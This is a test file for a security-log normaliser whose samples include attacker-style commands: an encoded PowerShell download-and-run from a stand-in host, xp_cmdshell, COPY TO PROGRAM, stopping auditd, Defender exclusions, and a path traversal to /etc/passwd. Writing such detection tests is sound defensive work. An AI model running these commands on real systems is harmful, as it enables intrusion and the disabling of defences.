    {"event": {"dataset": "endpoint.events.process", "action": "start"}, "host": {"name": "ws1"}, "user": {"name": "bob"}, "process": {
        "executable": "C:\\Windows\\System32\\certutil.exe", "command_line": "certutil -f x", "parent": {"executable": "C:\\Windows\\System32\\cmd.exe"}}},
    {"category": "AdvancedHunting-DeviceProcessEvents", "properties": {"ActionType": "ProcessCreated", "DeviceName": "ws1", "FolderPath": "C:\\Windows\\System32\\certutil.exe", "ProcessCommandLine": "certutil -f x", "InitiatingProcessFileName": "cmd.exe", "AccountName": "bob"}},
])
def test_a_process_start_reads_as_sysmons_whichever_platform_saw_it(record):
    read = normalise(Event(json.dumps(record)))
    assert read.kind == "windows" and read.template.startswith("process create windows sysmon process")
    assert "windows system32 certutil exe command certutil f x parent" in read.template and read.template.endswith("user")
    assert dict(read.entities)["process"] == "certutil.exe"


@pytest.mark.parametrize(("raw", "words"), [
    ("Jan  1 00:00:00 web1 su[12]: FAILED SU (to root) bob on pts/1", "switch user failed"),
    ("Jan  1 00:00:00 web1 usermod[12]: change user 'bob' shell from '/bin/sh' to '/tmp/x'", "shell tmp x"),
    ("Jan  1 00:00:00 web1 usermod[12]: change user 'bob' UID from '1001' to '0'", "uid zero"),
    ("Jan  1 00:00:00 web1 useradd[12]: new user: name=x, UID=960, GID=1006, home=/root, shell=/bin/bash, from=none", "home root"),
])
def test_what_an_account_was_given_is_said(raw, words):
    assert words in normalise(Event(raw, sourcetype="syslog")).template


@pytest.mark.parametrize(("channel", "code", "message", "words"), [
    ("System", 7036, "The Windows Defender service entered the stopped state.", "defender"),
    ("Microsoft-Windows-TaskScheduler/Operational", 200, 'Task Scheduler launched action "C:\\Users\\Public\\x.exe" in instance "{a}" of task "\\Updater".', "updater"),
    ("Microsoft-Windows-Windows Defender/Operational", 5007, "Configuration has changed.\n \tOld value: \n \tNew value: HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0", "exclusions"),
    ("Microsoft-Windows-WMI-Activity/Operational", 5861, "Namespace = //./root/subscription; Eventfilter = f (refer to its activate eventid:5859); Consumer = CommandLineEventConsumer=\"u\"; PossibleCause = Binding", "command line event consumer"),
])
def test_sentences_of_windows_say_their_names(channel, code, message, words):
    source = {7036: "Service Control Manager", 200: "Microsoft-Windows-TaskScheduler", 5007: "Microsoft-Windows-Windows Defender", 5861: "Microsoft-Windows-WMI-Activity"}[code]
    raw = f"08/29/2024 06:58:01 PM\nLogName={channel}\nSourceName={source}\nEventCode={code}\nEventType=4\nType=Information\nComputerName=WS1\nMessage={message}"
    assert words in normalise(Event(raw, sourcetype="WinEventLog")).template


@pytest.mark.parametrize(("code", "message", "words"), [
    (4662, "An operation was performed on an object.\n\nOperation:\n\tProperties:\t\tControl Access\n\t\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}\n\t\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "replication get changes"),
    (4742, "A computer account was changed.\n\nChanged Attributes:\n\tService Principal Names:\tE3514235-4B06-11D1-AB04-00C04FC2DCD2/x/y GC/w/y", "principals directory replication gc"),
    (4738, "A user account was changed.\n\nChanged Attributes:\n\tAllowed To Delegate To:\tcifs/dc01.corp.local\n\tSID History:\t\t%{S-1-5-21-1-2-3-519}", "delegates to cifs"),
])
def test_rights_on_the_directory_are_read_in_classic_text(code, message, words):
    raw = f"08/29/2024 06:58:01 PM\nLogName=Security\nSourceName=Microsoft Windows security auditing.\nEventCode={code}\nComputerName=DC1\nKeywords=Audit Success\nMessage={message}"
    assert words in normalise(Event(raw, sourcetype="WinEventLog")).template


@pytest.mark.parametrize(("text", "words"), [
    ("2031-03-01 10:11:12.345 UTC [12633] user=app,db=shop,app=psql,client=10.0.0.7 LOG:  statement: COPY users TO PROGRAM 'sh /tmp/x'", "statement copy users to program sh tmp x"),
    ("action=deny reason=bad password for user bob src=10.0.0.7 dst=203.0.113.9", "password for user bob"),
    ("Mar  1 10:11:12 web3 app[7]: login failed for user a=b c=d e=f g=h from 203.0.113.9, account of the administrator locked", "account of the administrator locked"),
    ("2031-12-01 14:47:25,913 INFO [qtp2:x] [name=f;mid=3;oip=10.1.1.1;] mailbox - deleted all messages of the folder inbox", "deleted all messages of the folder inbox"),
])
def test_what_stands_beside_pairs_is_read(text, words):
    assert words in normalise(Event(text)).template


def test_a_databases_audit_in_windows_text_tells_its_statement_first():
    text = ("09/15/2031 08:53:40 AM\nLogName=Application\nEventCode=33205\nComputerName=S\nSourceName=MSSQLSERVER\nMessage=Audit event: audit_schema_version:1\n"
            "event_time:2031-09-15 08:53:40.67\nsequence_number:1\naction_id:EX  \nsucceeded:false\nserver_principal_name:app\nstatement:EXEC xp_cmdshell\n 'whoami /all'\n"
            "additional_information:\n.")
    found = normalise(Event(text))
    assert "failed statement exec xp cmdshell whoami all" in found.template and found.focus


@pytest.mark.parametrize("between", ["\n", " "])
def test_joined_audit_records_tell_the_file_and_not_the_folder_around_it(between):
    text = between.join((
        'type=SYSCALL msg=audit(1.1:1): arch=c000003e syscall=257 success=yes items=2 auid=1000 uid=0 comm="tee" exe="/usr/bin/tee"',
        'type=CWD msg=audit(1.1:1): cwd="/root"',
        'type=PATH msg=audit(1.1:1): item=0 name="/etc/cron.d/" inode=1 dev=08:01 mode=040755 ouid=0 ogid=0 nametype=PARENT',
        'type=PATH msg=audit(1.1:1): item=1 name="/etc/cron.d/refresh" inode=2 dev=08:01 mode=0100644 ouid=0 ogid=0 nametype=CREATE'))
    found = normalise(Event(text, "linux_audit"))
    assert "file etc cron d refresh create" in found.template and dict(found.entities)["path"] == "etc cron d refresh"


def test_a_command_that_a_table_or_a_sentence_holds_encoded_is_decoded():
    hidden = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".encode("utf-16le")).decode()
    assert "download string" in read(f"2031-03-01 10:11:12,ws7,ann,powershell -nop -enc {hidden}").template


@pytest.mark.parametrize(("sourcetype", "kind"), [("http:param", "web"), ("access_combined", "web"), ("nginx:plus:access", "web"), ("aws:waf", "web"), ("ldap:access", "text"), ("doors:access", "text")])
def test_only_sourcetypes_of_the_web_make_a_request_of_a_plain_line(sourcetype, kind):
    assert normalise(Event("conn 7 op 3 BIND of cn admin", sourcetype)).kind == kind


SCRIPT_EVENT = "EventCode=4104\nLogName=Microsoft-Windows-PowerShell/Operational\nMessage=Creating Scriptblock text (1 of 1):\n{}\n\nScriptBlock ID: 1\nPath: \n"
STATEMENT_EVENT = "EventCode=33205\nLogName=Application\nSourceName=MSSQLSERVER\nMessage=Audit event: audit_schema_version:1\nstatement:{}\nadditional_information:\n."
TASK_EVENT = "EventCode=4698\nLogName=Security\nMessage=A scheduled task was created.\n\tTask Name: \\x\n\tTask Content: <Task>{}</Task>\n\tOther: x"
TASK = "<Exec><Command>powershell</Command><Arguments>-c downloadstring</Arguments></Exec>"


@pytest.mark.parametrize(("text", "words"), [
    (SCRIPT_EVENT.format("iex downloadstring\n" + "# one two\n" * 1_000), "iex downloadstring"),
    (SCRIPT_EVENT.format("# x\nScriptBlock ID: 1\niex downloadstring"), "script x script block id num iex downloadstring"),
    (STATEMENT_EVENT.format("exec xp_cmdshell 'whoami' --" + "one two " * 1_000), "statement exec xp cmdshell whoami"),
    (STATEMENT_EVENT.format("exec xp_cmdshell 'whoami'\n--" + "one two\n" * 1_000), "statement exec xp cmdshell whoami"),
    (STATEMENT_EVENT.format("select 1 /*\nnote:\n*/ exec xp_cmdshell 'whoami'"), "statement select num note exec xp cmdshell whoami"),
    (TASK_EVENT.format(TASK + "<!--" + "x y" * 3_000 + "-->"), "task content powershell c downloadstring"),
    (TASK_EVENT.format("<!-- </Task> -->" + TASK), "downloadstring"),
])
def test_what_fills_a_script_a_statement_or_a_task_hides_nothing_of_it(text, words):
    assert words in normalise(Event(text)).template


@pytest.mark.parametrize("text", [
    'time=1 action=deny user=eve url="http://x/?q=\\" eventName=GetUser eventSource=iam.amazonaws.com" msg="sql injection" severity=high',
    'event_type=threat src_ip=10.0.0.1 dest_ip=203.0.113.9 action=deny user=ann msg="sql injection"',
    'time=1 action=deny user=<EventID>4624</EventID> msg="sql injection"', '<13>Mar  1 10:11:12 fw1 action=deny user=<EventID>4624</EventID> msg="sql injection" a=b',
])
def test_a_line_of_pairs_is_no_other_makers_object(text):
    found = normalise(Event(text))
    assert found.kind == "keyvalue" and "deny" in found.template and "sql injection" in found.template


@pytest.mark.parametrize("name", ["raw", "original", "body", "data"])
def test_what_was_sent_hides_nothing_of_what_the_event_says(name):
    found = read({"time": "2031-03-01T10:11:12Z", "path": "/../../etc/passwd", "msg": "refused as malformed", name: '{"uri": "/index.html"}'})
    assert "etc passwd" in found.template and "refused" in found.template


@pytest.mark.parametrize("before", ["Mar  1 10:11:12 web3 app[12]: ", "<13>Mar  1 10:11:12 web3 app[12]: ", "<13>1 2031-03-01T10:11:12Z web3 app 12 - - ", "2031-03-01 10:11:12 INFO "])
@pytest.mark.parametrize("name", [
    "<EventID>4624</EventID>", "<Event><System><EventID>4624</EventID></System></Event>", "CEF:0|a|b|1|7|ok|1|", "user=CEF:0|a|b|1|7|ok|1|act=allow", "LEEF:1.0|a|b|1|ok|",
    "%ASA-6-302013: Built outbound", "%SYS-5-CONFIG_I: x", "a,1,2031/03/01 10:11:12,0,TRAFFIC,end,1,x", "x\nLogName=Security\nEventCode=4624\n"])
def test_a_name_that_looks_like_another_format_leaves_the_line_as_it_is(before, name):
    found = normalise(Event(f"{before}login failed for user {name} from 203.0.113.9: account root locked"))
    assert found.kind in ("syslog", "text") and "login failed for user" in found.template and "root locked" in found.template


def test_an_account_that_looks_like_xml_leaves_an_audit_record_as_it_is():
    found = normalise(Event("type=USER_LOGIN msg=audit(1.1:1): pid=1 uid=0 msg='op=login acct=\"<Event><EventID>4624</EventID></Event>\" addr=203.0.113.7 res=failed'"))
    assert found.kind == "auditd" and "login" in found.template and "failed" in found.template


def test_only_sql_servers_audit_has_a_statement():
    text = "EventCode=4103\nLogName=Application\nSourceName=Scanner\nMessage=malware found mimikatz sekurlsa in file\nstatement:select 1\n"
    assert "mimikatz" in normalise(Event(text)).template
    assert "mimikatz" in read({"EventID": 4688, "Channel": "Security", "Message": "mimikatz sekurlsa", "statement": "select 1"}).template


def test_an_audit_record_tells_whose_interface_listens_and_who_came():
    assert "device eth num" in read("type=ANOM_PROMISCUOUS msg=audit(1.1:9): dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=2").template
    found = read("type=CRYPTO_SESSION msg=audit(1.1:9): pid=1 uid=0 msg='op=start cipher=aes256 laddr=10.0.0.7 lport=22 addr=203.0.113.9 res=success'")
    assert dict(found.entities)["src"] == "203.0.113.9"


def test_a_command_in_quotes_inside_of_quotes_is_read():
    argument = b"bash -c 'systemctl stop auditd'".hex().upper()
    event = Event(f'type=EXECVE msg=audit(1683504523.629:7): argc=3 a0="/bin/sh" a1="-c" a2={argument}', "linux:audit", "", "")
    assert "systemctl stop auditd" in normalise(event).template


def test_what_the_audit_system_is_set_to_is_told():
    said = [normalise(Event(f"type=CONFIG_CHANGE msg=audit(1683504523.629:7): op=set audit_enabled={value} old={1 - value} auid=1000 ses=3 res=1", "linux:audit", "", "")).template for value in (0, 1)]
    assert "audit enabled off" in said[0] and "audit enabled on" in said[1]
